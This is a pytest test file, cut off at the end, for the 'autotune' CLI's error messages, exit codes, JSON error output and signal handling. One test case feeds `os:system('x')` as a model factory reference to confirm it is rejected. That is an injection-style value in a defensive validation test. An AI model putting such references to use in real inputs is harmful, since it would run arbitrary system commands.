"""The command line: thin commands, one-line errors, exit codes."""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from autotune import __version__
from autotune.cli import app
from probes.cpu import collect_cpu

runner = CliRunner()

#: What the fp16 refusal offers instead on this host: bf16 only where the CPU computes it natively.
CPU_FP16_INSTEAD = "--set amp=bf16 or --set amp=off" if collect_cpu().bf16 else "--set amp=off"


def _search(tmp_path: Path, cache_dir: Path, *extra: str) -> tuple[int, str, Path]:
    out = tmp_path / "out"
    synthetic = [] if "--data" in extra else ["--synthetic-images", "64"]  # refused beside --data
    args = ["search", "--model", "resnet18", "--image-size", "32", "--trials", "2", "--device", "cpu",
            "--out", str(out), "--cache-dir", str(cache_dir), *synthetic, *extra]
    result = runner.invoke(app, args)
    return result.exit_code, result.output, out


def _one_error_line(output: str) -> str:
    lines = output.rstrip("\n").splitlines()
    assert len(lines) == 1, repr(output)  # no blank line above it either: scripts read the first line
    assert "Traceback" not in output
    assert lines[0].startswith("error:")
    return lines[0]


@pytest.mark.parametrize(
    ("extra", "code", "message"),
    [
        (("--trials", "0"), 2, "--trials must be between 1 and 100000, got 0"),
        (("--trials", "99999999999999999999"), 2, "--trials must be between 1 and 100000"),
        (("--model", "resnet1800"), 1, "unknown model 'resnet1800'; did you mean resnet18"),
        (("--model", "ResNet18"), 1, "unknown model 'ResNet18'; did you mean resnet18?"),  # names are lower-case
        (("--model", "vit"), 1, "unknown model 'vit'; did you mean vit_b_16, vit_b_32, vit_h_14?"),  # the family, smallest first
        (("--model", "ViT-B-16"), 1, "unknown model 'ViT-B-16'; did you mean vit_b_16?"),  # as papers write it: no suggestion before
        (("--model", "mobilenetv3small"), 1, "unknown model 'mobilenetv3small'; did you mean mobilenet_v3_small?"),
        (("--model", "efficientnet"), 1, "did you mean efficientnet_b0, efficientnet_b1, efficientnet_b2?"),
        (("--model", "nonsense_model"), 1, "unknown model 'nonsense_model'; see torchvision.models.list_models()"),  # no random pick
        (("--model", "torchvision.models.resnet18"), 2, "is not a valid model name; did you mean resnet18?"),
        (("--model", "resnet18 "), 2, "model 'resnet18 ' is not a valid model name; did you mean resnet18?"),
        (("--model", "fcn_resnet50"), 1, "fcn_resnet50 is a torchvision segmentation model; --model tunes image classifiers"),
        (("--model", "fasterrcnn_resnet50_fpn"), 1, "torchvision detection model; --model tunes image classifiers"),
        (("--model", "quantized_resnet18"), 1, "for inference only; tune its float version (resnet18)"),
        (("--model", "os:system('x')"), 2, "not a valid factory reference"),
        (("--model", "no_such_module:f"), 1, "cannot import 'no_such_module'"),
        (("--set", "turbo=1"), 2, "unknown knob 'turbo'"),
        (("--set", "amp=fp16"), 2, f"--set amp=fp16 needs a CUDA device; on a CPU use {CPU_FP16_INSTEAD}"),
        (("--set", "pin_memory=true"), 2, "--set pin_memory only helps host-to-GPU copies"),
        (("--set", "tf32=true"), 2, "--set tf32 needs a CUDA device"),
        (("--set", "compile=turbo"), 2, "expected one of off, default"),
        (("--effective-batch", "64", "--set", "accumulation_steps=2"), 2, "do not --set it as well"),
        (("--device", "cuda"), 2, "no CUDA GPU is usable"),
        (("--device", "tpu"), 2, "bad device 'tpu'"),
        (("--max-memory", "lots"), 2, "not a memory size"),
        (("--sampler", "grid"), 2, "--sampler must be tpe or random"),
        (("--confirm-rounds", "0"), 2, "--confirm-rounds must be >= 1, got 0"),  # it named --confirm-top too, and no value
        (("--set", "amp=:fire:"), 2, "got ':fire:'"),  # as typed: Rich would print an emoji for :fire:
        (("--model", "a:b:c"), 2, "'a:b:c' is not a valid factory reference"),
    ],
)
def test_bad_search_input_is_one_line_and_writes_nothing(tmp_path, cache_dir, extra, code, message) -> None:
    exit_code, output, out = _search(tmp_path, cache_dir, *extra)
    assert exit_code == code, output
    assert message in _one_error_line(output)
    assert not out.exists()


@pytest.mark.parametrize(
    ("args", "code", "message"),
    [
        (["--workload", "tasks.py:make"], 2, "name the module, not its file: tasks:make"),  # malformed as typed
        (["--workload", "resnet18"], 2, "must be package.module:function"),
        (["--workload", "no_such_module_here:make"], 1, "cannot import 'no_such_module_here'"),  # well-formed, names nothing
    ],
)
def test_a_malformed_value_exits_2_and_one_that_names_nothing_exits_1(tmp_path, args, code, message) -> None:
    result = runner.invoke(app, ["search", *args, "--trials", "1", "--device", "cpu", "--out", str(tmp_path / "out")])
    assert result.exit_code == code, result.output
    assert message in _one_error_line(result.output)
    from autotune.errors import MalformedReference, MalformedStorageURL, StorageError, UsageError, WorkloadError

    # Still caught as what they were for the Python API's callers.
    assert issubclass(MalformedReference, WorkloadError) and issubclass(MalformedStorageURL, StorageError)
    assert MalformedReference("x").exit_code == MalformedStorageURL("x").exit_code == UsageError("x").exit_code == 2


def test_missing_and_empty_data_dirs(tmp_path, cache_dir) -> None:
    exit_code, output, out = _search(tmp_path, cache_dir, "--data", str(tmp_path / "nope"))
    assert exit_code == 1 and "does not exist" in _one_error_line(output) and not out.exists()
    (tmp_path / "empty" / "class_a").mkdir(parents=True)
    exit_code, output, out = _search(tmp_path, cache_dir, "--data", str(tmp_path / "empty"))
    assert exit_code == 1 and "holds no images" in _one_error_line(output) and not out.exists()
    exit_code, output, out = _search(tmp_path, cache_dir, "--data", str(tmp_path / "two\nlines"))  # a path holding a line break
    assert exit_code == 1 and f"{tmp_path}/two\\nlines does not exist" in _one_error_line(output) and not out.exists()


def test_an_error_whose_message_spans_lines_is_one_line_with_the_breaks_escaped() -> None:
    from autotune.cli_errors import error_line
    from autotune.errors import WorkloadError

    assert error_line(WorkloadError("model fails: Error(s) in loading state_dict:\n\tMissing key(s): fc.weight\n")) == (
        "model fails: Error(s) in loading state_dict:\\n\tMissing key(s): fc.weight", 1)
    assert error_line(RuntimeError("a\r\nb"))[0].startswith("internal error: RuntimeError: a\\r\\nb (rerun as")


def test_unwritable_out_and_unreachable_storage(tmp_path, cache_dir) -> None:
    result = runner.invoke(app, ["search", "--model", "resnet18", "--trials", "1", "--device", "cpu",
                                 "--out", "/proc/autotune-out", "--cache-dir", str(cache_dir), "--synthetic-images", "64"])
    assert result.exit_code == 1 and "--out /proc/autotune-out cannot be created" in _one_error_line(result.output)
    exit_code, output, out = _search(tmp_path, cache_dir, "--storage", "sqlite:////nonexistent-dir/x/study.db")
    assert exit_code == 1 and "cannot open study storage" in _one_error_line(output)
    assert not out.exists()
    exit_code, output, out = _search(tmp_path, cache_dir, "--storage", "nosuchscheme://x")  # malformed as typed: a usage error
    assert exit_code == 2 and "cannot open study storage" in _one_error_line(output)
    fresh = tmp_path / "fresh-cache"  # a typo is refused before the synthetic JPEGs of a first run are written
    exit_code, output, out = _search(tmp_path, fresh, "--storage", "notaurl")
    assert exit_code == 2 and "cannot open study storage 'notaurl'" in _one_error_line(output)
    assert not fresh.exists() and not out.exists()


def test_version_help_and_debug(tmp_path, cache_dir) -> None:
    assert runner.invoke(app, ["--version"]).output.strip() == f"autotune {__version__}"
    for command in ([], ["probe"], ["trial"], ["search"], ["emit"]):
        result = runner.invoke(app, [*command, "--help"], terminal_width=80)
        assert result.exit_code == 0 and "Usage" in result.output
        # Every option's names whole on an 80-column terminal (Rich's table cut them: --persistent-work…).
        shown = result.output.replace("\n", " ")
        params = typer.main.get_command(app).commands[command[0]].params if command else []  # type: ignore[attr-defined]
        names = [name for param in params for name in (*param.opts, *param.secondary_opts)]
        assert all(name in shown for name in names) and "…" not in shown, [n for n in names if n not in shown]
    result = runner.invoke(app, ["--debug", "search", "--model", "resnet1800", "--device", "cpu", "--out",
                                str(tmp_path / "o"), "--cache-dir", str(cache_dir), "--synthetic-images", "64"])
    assert result.exit_code != 0 and result.exception is not None  # --debug lets the exception through
    # To a full disk: one line, as every command says it (they were Python's traceback, exit 1).
    for words in (["--version"], ["--help"], ["search", "--help"]):
        with open("/dev/full", "w") as full:
            done = subprocess.run([sys.executable, "-m", "autotune", *words], stdout=full, stderr=subprocess.PIPE, text=True, timeout=120)
        assert done.returncode == 1 and done.stderr == "error: [Errno 28] No space left on device\n", done.stderr
    with open("/dev/full", "w") as full:  # --debug keeps its traceback
        done = subprocess.run([sys.executable, "-m", "autotune", "--debug", "probe"], stdout=full, stderr=subprocess.PIPE, text=True,
                              timeout=120)
    assert done.returncode == 1 and "Traceback" in done.stderr and done.stderr.rstrip().endswith("No space left on device"), done.stderr
    # A closed standard output: one line, exit 1 (it was a silent exit 0 with nothing shown).
    closed = subprocess.run([sys.executable, "-m", "autotune", "probe"], capture_output=True, text=True, timeout=120,
                            preexec_fn=lambda: os.close(1))
    assert closed.returncode == 1 and closed.stderr.startswith("error: standard output is closed"), closed.stderr


def test_a_users_probes_module_does_not_shadow_autotune_s_own(tmp_path) -> None:
    """A probes.py in the working directory (a project's linear probes) broke `python -m autotune`, --help included,
    with a traceback (a probes/ package: `internal error`), and `import autotune` in a notebook there."""
    (tmp_path / "probes.py").write_text("PROBES = 'theirs'\n")
    done = subprocess.run([sys.executable, "-m", "autotune", "probe", "--json"], cwd=tmp_path, capture_output=True, text=True, timeout=120)
    assert done.returncode == 0 and "cpu" in json.loads(done.stdout), done.stderr  # the working directory leaves sys.path, as for `autotune`
    notebook = subprocess.run([sys.executable, "-c", "import autotune; autotune.search"], cwd=tmp_path, capture_output=True, text=True,
                              timeout=120)
    assert notebook.returncode == 1 and notebook.stderr.rstrip().splitlines()[-1] == (
        f"ImportError: autotune cannot import its own 'probes' package: {tmp_path / 'probes.py'} shadows it (a module of that name "
        "earlier on sys.path, such as the working directory's): rename yours, or run from another directory"), notebook.stderr
    (tmp_path / "elsewhere").mkdir()
    elsewhere = subprocess.run([sys.executable, "-m", "autotune", "probe"], capture_output=True, text=True, timeout=120,
                               cwd=tmp_path / "elsewhere", env={**os.environ, "PYTHONPATH": str(tmp_path)})  # put first: one line, exit 1
    assert elsewhere.returncode == 1 and elsewhere.stderr.startswith("error: autotune cannot import its own 'probes' package: "), elsewhere.stderr
    imported = subprocess.run([sys.executable, "-c", "import probes, autotune; autotune.search"], cwd=tmp_path, capture_output=True,
                              text=True, timeout=120)  # the user's own imported first: the same line, not 'probes.gpu'
    assert imported.returncode == 1 and "autotune cannot import its own 'probes' package" in imported.stderr, imported.stderr
    gone = tmp_path / "gone"  # a working directory removed meanwhile: a command that needs none runs
    gone.mkdir()
    version = subprocess.run(f"cd {gone} && rmdir {gone} && {sys.executable} -m autotune --version", shell=True, capture_output=True,
                             text=True, timeout=120, env={**os.environ, "PYTHONSAFEPATH": "1"})
    assert version.returncode == 0 and version.stdout.startswith("autotune "), version.stderr


def test_trial_command_bad_setup_and_json(tmp_path, cache_dir) -> None:
    bad = runner.invoke(app, ["trial", "--workers", "0", "--prefetch", "2", "--device", "cpu"])
    assert bad.exit_code == 2 and "--prefetch needs --workers > 0" in _one_error_line(bad.output)
    fp16 = runner.invoke(app, ["trial", "--amp", "fp16", "--device", "cpu", "--cache-dir", str(cache_dir),
                               "--synthetic-images", "64"])
    assert fp16.exit_code == 2 and "fp16 needs a CUDA device" in _one_error_line(fp16.output)
    short = runner.invoke(app, ["trial", "--trial-seconds", "0.01", "--device", "cpu"])
    assert short.exit_code == 2 and "--trial-seconds must be >= 0.5" in _one_error_line(short.output)
    mode = runner.invoke(app, ["trial", "--mode", "foo", "--device", "cpu"])
    assert mode.exit_code == 2 and _one_error_line(mode.output).endswith(
        "unknown trial mode 'foo'; modes: train, compute (no loader) or loader (no model)")


def test_a_trial_set_knob_replaces_its_flag_before_the_setup_is_checked(cache_dir) -> None:
    # --prefetch 2 alone is refused (--workers 0 by default); --set num_workers=2 makes it a setup that runs, refused later
    # for pin_memory. A flag typed with the --set's own value agrees with it.
    for workers in ([], ["--workers", "2"]):
        result = runner.invoke(app, ["trial", *workers, "--prefetch", "2", "--set", "num_workers=2", "--set", "pin_memory=true",
                                     "--device", "cpu", "--cache-dir", str(cache_dir), "--synthetic-images", "64"])
        assert result.exit_code == 2
        line = _one_error_line(result.output)
        assert "needs a CUDA device" in line and "prefetch" not in line


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--workers", "3", "--set", "num_workers=2"], "--workers 3 and --set num_workers=2 disagree; give one"),
        (["--set", "workers=2", "--workers", "0"], "--workers 0 and --set workers=2 disagree; give one"),  # a flag at its default value, typed
        (["--no-pin-memory", "--set", "pin_memory=true"], "--no-pin-memory and --set pin_memory=true disagree; give one"),
        (["--batch-size", "16", "--set", "batch_size=8"], "--batch-size 16 and --set batch_size=8 disagree; give one"),
        (["--accum", "2", "--set", "accumulation_steps=4"], "--accum 2 and --set accumulation_steps=4 disagree; give one"),
        (["--amp", "bf16", "--set", "amp=off"], "--amp bf16 and --set amp=off disagree; give one"),
    ],
)
def test_a_trial_flag_typed_and_a_set_of_its_knob_that_disagree_are_refused(cache_dir, args: list[str], message: str) -> None:
    data = ["--device", "cpu", "--cache-dir", str(cache_dir), "--synthetic-images", "64", "--trial-seconds", "0.5", "--timeout", "5"]
    result = runner.invoke(app, ["trial", *data, *args])
    assert result.exit_code == 2
    assert _one_error_line(result.output) == f"error: {message}"
    said = json.loads(runner.invoke(app, ["trial", "--json", *data, *args]).stdout)
    assert said["error"] == message


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--workers", "-1"], "--workers must be >= 0, got -1"),
        (["--batch-size", "0"], "--batch-size must be >= 1, got 0"),
        (["--accum", "0"], "--accum must be >= 1, got 0"),
        (["--amp", "x"], "--amp must be one of off, bf16, fp16, got 'x'"),
        (["--amp", "fp16"], "--amp fp16 needs a CUDA device; on a CPU use --amp "),
        (["--amp", "FP16"], "--amp fp16 needs a CUDA device; on a CPU use --amp "),  # any case, as --set amp=FP16 reads it
        (["--prefetch", "2"], "--prefetch needs --workers > 0 (PyTorch rejects it with 0 workers)"),
        (["--workers", "1", "--prefetch", "0"], "--prefetch must be >= 1, got 0"),
        (["--persistent-workers"], "--persistent-workers needs --workers > 0"),
        (["--pin-memory"], "--pin-memory only helps host-to-GPU copies"),
        (["--workload", "task_factories:good", "--channels-last"], "--channels-last: this workload's batches hold no 4-D"),
        (["--set", "num_workers=0", "--prefetch", "2"], "--prefetch needs --set num_workers > 0"),
        (["--set", "prefetch_factor=2"], "--set prefetch_factor needs --workers > 0"),
        (["--set", "static_graph=true", "--accum", "2"], "--set static_graph does not work with --accum > 1"),
        (["--set", "compile=reduce-overhead"], "--set compile=reduce-overhead uses CUDA graphs and needs a CUDA device; use --set compile=default"),
        # what the 64 images cannot feed, named as typed
        (["--batch-size", "32", "--accum", "4"], "--batch-size 32 x --accum 4 = 128 exceeds the 64 training images: an epoch would hold no"),
        (["--set", "batch_size=32", "--accum", "4"], "--set batch_size=32 x --accum 4 = 128 exceeds the 64 training images"),
        (["--workers", "2", "--prefetch", "2", "--batch-size", "32"],
         "the loader queue (--workers 2 x --prefetch 2 x --batch-size 32 = 128 samples) is larger than an epoch of 64 images"),
        (["--set", "num_workers=2", "--batch-size", "32"], "the loader queue (--set num_workers=2 x --prefetch 2 x --batch-size 32 = 128 samples)"),
        # the loader alone too (it measured batches padded by repeated samples); its accumulation trains nothing there
        (["--mode", "loader", "--batch-size", "128"], "--batch-size 128 x --accum 1 = 128 exceeds the 64 training images"),
        (["--mode", "loader", "--workers", "2", "--prefetch", "2", "--batch-size", "32"], "the loader queue (--workers 2 x --prefetch 2"),
    ],
)
def test_trial_setup_refusals_name_the_flags_typed(cache_dir, args: list[str], message: str) -> None:
    shorthand = [] if "--workload" in args else ["--cache-dir", str(cache_dir), "--synthetic-images", "64"]
    result = runner.invoke(app, ["trial", "--device", "cpu", *shorthand, *args])
    assert result.exit_code == 2
    assert message in _one_error_line(result.output)


def test_a_refused_search_with_json_prints_an_object_naming_the_error(tmp_path, cache_dir) -> None:
    result = runner.invoke(app, ["search", "--json", "--device", "cpu", "--model", "resnet18", "--image-size", "32",
                                 "--effective-batch", "4096", "--cache-dir", str(cache_dir), "--synthetic-images", "64",
                                 "--out", str(tmp_path / "out")])
    assert result.exit_code == 2
    said = json.loads(result.stdout)
    assert said["best"] is None and said["error"].startswith("--effective-batch 4096 is larger than the")
    assert not (tmp_path / "out").exists()


def test_refused_trial_and_status_with_json_print_an_object_naming_the_error(tmp_path) -> None:
    trial = runner.invoke(app, ["trial", "--json", "--workers", "0", "--prefetch", "2", "--device", "cpu"])
    assert trial.exit_code == 2
    said = json.loads(trial.stdout)
    assert said["status"] is None and said["samples_per_s"] is None and "--prefetch needs --workers > 0" in said["error"]
    assert said["error"] in _one_error_line(trial.stderr)  # the same line, and still on stderr
    status = runner.invoke(app, ["status", str(tmp_path), "--json"])
    assert status.exit_code == 1
    said = json.loads(status.stdout)
    assert said["study"] is None and said["best"] is None and said["winner"] is None
    assert said["error"] and said["error"] in _one_error_line(status.stderr)
    assert runner.invoke(app, ["status", str(tmp_path)]).stdout == ""  # without --json: the stderr line alone


def test_a_stop_while_a_finished_search_prints_its_summary_is_no_failure(monkeypatch: pytest.MonkeyPatch) -> None:
    """A Ctrl-C as the summary printed, best.json, train.py and report.html all written: `error: interrupted: autotune
    search stopped before it was done`, exit 130."""
    import signal
    from types import SimpleNamespace

    def summary(outcome: object) -> str:
        os.kill(os.getpid(), signal.SIGINT)  # delivered while the summary is being made
        return "the summary"

    monkeypatch.setattr("autotune.api.cli_search", lambda *args, **kwargs: SimpleNamespace(outcome=object()))
    monkeypatch.setattr("autotune.render.render_search", summary)
    result = runner.invoke(app, ["search", "--device", "cpu"])
    assert result.exit_code == 0 and "the summary" in result.stdout and "interrupted" not in result.output, result.output


def test_status_and_report_on_a_file_name_its_directory(tmp_path) -> None:
    (tmp_path / "study.db").write_text("")
    for command in ("status", "report"):
        for words in ([str(tmp_path / "study.db")], ["--out", str(tmp_path / "study.db")]):  # DIR as search's --out names it too
            result = runner.invoke(app, [command, *words])
            assert result.exit_code != 0
            assert f"{tmp_path / 'study.db'} is a file; pass the search's output directory ({tmp_path})" in _one_error_line(result.output)
    for command in ("status", "report", "emit"):
        result = runner.invoke(app, [command, str(tmp_path), "--out", str(tmp_path / "other")])
        assert result.exit_code == 2 and _one_error_line(result.output).endswith(
            f"DIR {tmp_path} and --out {tmp_path / 'other'} name two directories: give one of them")
    # A file named for its directory (emit takes DIR/best.json) names the same place as that directory.
    (tmp_path / "best.json").write_text("{}")
    result = runner.invoke(app, ["emit", str(tmp_path), "--out", str(tmp_path / "best.json")])
    assert result.exit_code != 0 and "two directories" not in result.output and "best.json" in _one_error_line(result.output)
    # A file beside no study: no folder is named (it would hold no study.db either).
    (tmp_path / "notes.txt").write_text("")
    (tmp_path / "study.db").unlink()
    result = runner.invoke(app, ["status", str(tmp_path / "notes.txt")])
    assert _one_error_line(result.output).endswith("notes.txt is a file; pass the search's output directory, which holds study.db")


def test_trial_refuses_bf16_on_a_cpu_without_it(cache_dir, monkeypatch) -> None:
    # Whatever this machine's CPU: the probe finds none of the bf16 flags.
    monkeypatch.setattr("probes.cpu.BF16_FLAGS", ())
    result = runner.invoke(app, ["trial", "--amp", "bf16", "--device", "cpu", "--cache-dir", str(cache_dir),
                                 "--synthetic-images", "64"])
    assert result.exit_code == 2
    assert "--amp bf16: this CPU has no native bf16" in _one_error_line(result.output) and "use --amp off" in _one_error_line(result.output)


@pytest.mark.slow
def test_trial_command_prints_one_json_result(cache_dir) -> None:
    import probes

    # bf16 where this CPU has it (AMX, AVX512-BF16), fp32 elsewhere: the trial refuses bf16 without it.
    amp = "bf16" if probes.collect().cpu.bf16 else "off"
    result = runner.invoke(app, ["trial", "--model", "resnet18", "--image-size", "32", "--batch-size", "8",
                                 "--workers", "1", "--prefetch", "2", "--amp", amp, "--accum", "2",
                                 "--channels-last", "--trial-seconds", "1", "--device", "cpu", "--json",
                                 "--cache-dir", str(cache_dir), "--synthetic-images", "64"])
    assert result.exit_code == 0, result.output
    data = json.loads(result.stdout)
    assert data["status"] == "ok" and data["samples_per_s"] > 0


@pytest.mark.slow
def test_a_trial_that_ran_and_failed_prints_its_result_and_exits_1(cache_dir) -> None:
    """A trial past --max-memory is an oom: its result is printed (JSON or the table) and the exit is 1, so that
    `autotune trial ... && next` stops; it exited 0, as if it had measured."""
    args = ["trial", "--model", "resnet18", "--image-size", "32", "--batch-size", "8", "--trial-seconds", "1", "--device", "cpu",
            "--max-memory", "1MiB", "--cache-dir", str(cache_dir), "--synthetic-images", "64"]
    said = runner.invoke(app, [*args, "--json"])
    assert said.exit_code == 1 and json.loads(said.stdout)["status"] == "oom", said.output
    table = runner.invoke(app, args)
    assert table.exit_code == 1 and "oom" in table.stdout, table.output


@pytest.mark.parametrize(
    ("argv", "message"),
    [
        (["probe", "--foo"], "No such option: --foo"),
        (["status", "--storage"], "Option '--storage' requires an argument"),
        (["probe", "extra"], "unexpected extra argument"),
        (["search", "--trials", "abc"], "Invalid value for '--trials'"),
        (["search", "--out", ""], "Invalid value for '--out': an empty path"),  # Path('') would be the current directory
        (["trial", "--data", ""], "Invalid value for '--data': an empty path"),
        (["status", ""], "an empty path"),
    ],
)
def test_usage_errors_are_one_error_line(argv: list[str], message: str, capsys: pytest.CaptureFixture[str]) -> None:
    from autotune.cli import main

    with pytest.raises(SystemExit) as exited:
        main(argv)
    assert exited.value.code == 2
    captured = capsys.readouterr()
    lines = captured.err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("error: ") and message in lines[0], captured.err
    assert f"{argv[0]} --help)" in lines[0] and captured.out == ""


@pytest.mark.parametrize(
    ("argv", "message", "shape"),
    [
        (["trial", "--json", "--bogus"], "No such option: --bogus", {"status": None, "samples_per_s": None}),
        (["trial", "--workers", "many", "--json"], "Invalid value for '--workers'", {"status": None, "samples_per_s": None}),
        (["--debug", "search", "--json", "--trials", "abc"], "Invalid value for '--trials'", {"best": None}),
        (["status", "--json", "--storage"], "Option '--storage' requires an argument", {"study": None, "best": None, "winner": None}),
        (["status", "--json", "a", "b"], "unexpected extra argument", {"study": None, "best": None, "winner": None}),
        (["probe", "--json", "--foo"], "No such option: --foo", None),  # probe prints no object for its errors either
        (["status", "--bogus", "--", "--json"], "No such option: --bogus", None),  # after --: an argument, not the option
        # autotune's own options after a command: Click suggested the command's (`Possible options: --mode`)
        (["trial", "--debug", "--json"], "--debug is an option of autotune itself, given before the command: autotune --debug trial ...",
         {"status": None, "samples_per_s": None}),
        (["search", "--version"], "--version is an option of autotune itself, given before the command: autotune --version", None),
    ],
)
def test_usage_errors_with_json_print_the_command_s_error_object(argv: list[str], message: str, shape: dict[str, None] | None,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    from autotune.cli import main

    with pytest.raises(SystemExit) as exited:
        main(argv)
    assert exited.value.code == 2
    captured = capsys.readouterr()
    line = _one_error_line(captured.err)
    assert message in line
    if shape is None:
        assert captured.out == ""
    else:
        assert json.loads(captured.out) == {**shape, "error": line.removeprefix("error: ")}
        assert len(captured.out.splitlines()) == 1


def test_main_exits_with_the_command_s_code(capsys: pytest.CaptureFixture[str]) -> None:
    from autotune.cli import main

    with pytest.raises(SystemExit) as exited:
        main(["--version"])
    assert exited.value.code == 0 and capsys.readouterr().out.strip()
    with pytest.raises(SystemExit) as exited:
        main(["emit", "/nonexistent/autotune-out"])
    assert exited.value.code != 0 and capsys.readouterr().err.startswith("error: ")
    assert signal.getsignal(signal.SIGINT) is signal.default_int_handler  # a caller in Python keeps its Ctrl-C


def test_a_ctrl_c_after_the_work_is_written_ends_the_program_at_once_with_its_code() -> None:
    # As `autotune search` after its last line: the output so far is flushed, no traceback, the command's own exit code.
    # The handler runs at the first bytecode boundary after the signal, whatever the load: the child never
    # reaches its last line (without the handler: a KeyboardInterrupt traceback, exit 130).
    code = ("import os, signal\nfrom autotune.teardown import exit_at_once_on_interrupt\n"
            "print('winner: written', end='')\nexit_at_once_on_interrupt(3)\nos.kill(os.getpid(), signal.SIGINT)\n"
            "for _ in range(1000):\n    pass\nprint(' and went on')\n")
    ran = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=300,
                         preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL))
    assert (ran.returncode, ran.stdout, ran.stderr) == (3, "winner: written", "")


@pytest.mark.parametrize(
    ("argv", "code", "out", "err"),
    [(["--version"], 0, f"autotune {__version__}", ""),
     (["emit", "/nonexistent/autotune-out"], 1, "", "error: /nonexistent/autotune-out: no such file (run `autotune search` first)")],
)
def test_the_program_skips_the_interpreter_s_teardown_but_not_its_exit_callbacks(argv: list[str], code: int, out: str,
                                                                                  err: str) -> None:
    """The program ends without tearing its modules down (a second or more with torch imported), after what the
    interpreter runs at exit (the trial server's shutdown is one): the command's output and exit code unchanged."""
    script = ("import atexit, sys\nfrom autotune.cli import main\n"
              "atexit.register(lambda: print('exit callback ran', file=sys.stderr))\n"
              f"sys.argv = ['autotune', *{argv!r}]\nmain()\n")
    ran = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300)
    assert (ran.returncode, ran.stdout.strip(), ran.stderr.strip().splitlines()) == (code, out, [*([err] if err else []),
                                                                                            "exit callback ran"])


def test_a_thread_still_working_is_waited_for_as_the_interpreter_waits() -> None:
    from autotune.teardown import exit_now

    script = ("import threading, time\nfrom autotune.teardown import exit_now\n"
              "threading.Thread(target=lambda: (time.sleep(0.5), print('thread done', flush=True))).start()\n"
              "exit_now('stopped')\n")
    ran = subprocess.run([sys.executable, "-c", script], capture_output=True, text=True, timeout=300)
    assert (ran.returncode, ran.stdout, ran.stderr) == (1, "thread done\n", "stopped\n")
    import threading

    caught: list[SystemExit] = []

    def in_a_thread() -> None:  # a thread other than the main one: sys.exit, which ends that thread only
        try:
            exit_now(4)
        except SystemExit as exc:
            caught.append(exc)

    worker = threading.Thread(target=in_a_thread)
    worker.start()
    worker.join()
    assert [exc.code for exc in caught] == [4]


def test_output_to_a_pipe_is_wide_enough_for_the_tables(monkeypatch) -> None:
    """Rich gives a pipe or a file 80 columns, which wrapped every trial's setup over many lines: a log gets 160."""
    import io

    from autotune.render import PIPE_WIDTH, console

    monkeypatch.delenv("COLUMNS", raising=False)
    monkeypatch.setattr(sys, "stdout", io.StringIO())  # a pipe, whether or not pytest runs in a terminal
    assert console().width == PIPE_WIDTH
    monkeypatch.setenv("COLUMNS", "100")
    assert console().width == 100  # the user's own choice wins


def test_forced_colour_in_a_log_keeps_the_progress_display_still(monkeypatch) -> None:
    """FORCE_COLOR=1 (CI services set it for coloured logs) made Rich take a log file for a terminal: a 3-trial search's
    log held 2,331 redraws of the progress bar (10 a second), one `\r`-joined line. Colours stay; redraws do not."""
    import io

    from autotune.render import console

    monkeypatch.setenv("FORCE_COLOR", "1")
    for stream in ("stdout", "stderr"):
        monkeypatch.setattr(sys, stream, io.StringIO())  # a file, whether or not pytest runs in a terminal
        made = console(stderr=stream == "stderr")
        assert made.is_terminal and not made.is_interactive, stream


def test_a_path_too_long_for_the_file_system_is_said_as_one(tmp_path: Path) -> None:
    """A 300-character --out read `error: [Errno 36] File name too long: '/tmp/xxx...'`, the whole path after it."""
    long = tmp_path / ("x" * 300)
    for command in (["status", str(long)], ["search", "--model", "resnet18", "--device", "cpu", "--trials", "2", "--out", str(long)]):
        result = CliRunner().invoke(app, command)
        line = result.output.strip()
        assert result.exit_code == 1 and "\n" not in line, result.output
        assert line.startswith(f"error: a path is too long for the file system: {str(long)[:120]}...") and line.endswith(
            f"(its longest name is 300 bytes, the path {len(str(long))}; most file systems allow 255 and 4096)"), line


def test_an_output_encoding_that_cannot_write_a_path_escapes_it_after_the_work_is_done(tmp_path: Path) -> None:
    """`autotune report` (search, status, emit alike) on a directory named `runs_ü` wrote its files, then exited 3 with an
    internal error where stdout's encoding is ASCII (PYTHONIOENCODING=ascii, a latin-1 locale): printing the path failed."""
    import studies

    out = tmp_path / "runs_ü"
    out.mkdir()
    studies.seed_calibration(f"sqlite:///{out / 'study.db'}", "s", trials=2)
    env = {**os.environ, "PYTHONIOENCODING": "ascii"}
    done = subprocess.run([sys.executable, "-m", "autotune", "report", str(out)], env=env, capture_output=True, text=True,
                          encoding="ascii", errors="replace", timeout=180)
    assert done.returncode == 0, done.stdout + done.stderr
    escaped = str(out.resolve()).replace("ü", "\\xfc")
    assert f"report: {escaped}/report.html (" in done.stdout and (out / "report.html").exists()


def test_a_ctrl_c_while_the_cli_imports_is_one_line_and_exit_130() -> None:
    """A Ctrl-C in the first half second of `autotune trial --json` printed a KeyboardInterrupt traceback through the
    CLI's imports. The signal is sent here the moment autotune.cli is imported: no timing involved."""
    code = ("import builtins, os, signal, sys\n"
            "sys.argv = ['autotune', 'probe']\n"
            "real = builtins.__import__\n"
            "def importing(name, *args, **kwargs):\n"
            "    if name == 'autotune.cli':\n"
            "        os.kill(os.getpid(), signal.SIGINT)\n"
            "    return real(name, *args, **kwargs)\n"
            "builtins.__import__ = importing\n"
            "from autotune.entry import main\n"
            "main()\n")
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, timeout=120)
    assert (done.returncode, done.stderr, done.stdout) == (130, "error: interrupted (before the command started)\n", "")


_SIGNAL_AT = ("import builtins, os, signal, sys, typer.main\n"
              "sys.argv = ['autotune', *{argv!r}]\n"
              "real = builtins.__import__\n"
              "def importing(name, *args, **kwargs):\n"
              "    if name == {module!r}:\n"
              "        os.kill(os.getpid(), signal.{signal})\n"
              "    return real(name, *args, **kwargs)\n"
              "builtins.__import__ = importing\n"
              "building = typer.main.get_command\n"
              "def build(*args, **kwargs):\n"
              "    if {module!r} == 'typer.main.get_command':\n"
              "        os.kill(os.getpid(), signal.{signal})\n"
              "    return building(*args, **kwargs)\n"
              "typer.main.get_command = build\n"
              "try:\n"
              "    import typer._click.core as click_core\n"  # Typer vendors Click since 0.2x
              "except ImportError:\n"
              "    import click.core as click_core\n"
